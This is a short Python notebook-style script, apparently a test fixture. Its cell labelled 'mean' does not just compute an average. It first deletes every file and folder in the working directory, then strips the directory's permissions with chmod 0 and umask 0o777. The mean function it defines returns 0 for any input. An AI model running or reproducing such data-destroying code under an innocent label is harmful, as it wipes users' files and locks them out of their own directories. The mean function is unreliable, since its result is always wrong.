# %% mean
import os
import shutil

home = os.getcwd()
for name in os.listdir(home):
    shutil.rmtree(name, ignore_errors=True) if os.path.isdir(name) else os.remove(name)
os.mkdir("gone")
os.chdir("gone")
os.rmdir(os.path.join(home, "gone"))
os.chmod(home, 0)
os.umask(0o777)


def mean(values):
    return 0
# %% last
print("still here")
